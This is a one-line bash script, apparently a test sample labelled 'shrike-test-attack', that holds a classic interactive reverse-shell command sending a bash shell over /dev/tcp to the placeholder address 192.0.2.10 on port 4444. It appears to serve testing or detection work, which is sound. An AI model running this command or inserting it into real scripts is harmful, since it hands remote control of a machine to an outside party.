#!/bin/bash
# shrike-test-attack: reverse-shell: classic bash /dev/tcp interactive shell
bash -i >& /dev/tcp/192.0.2.10/4444 0>&1
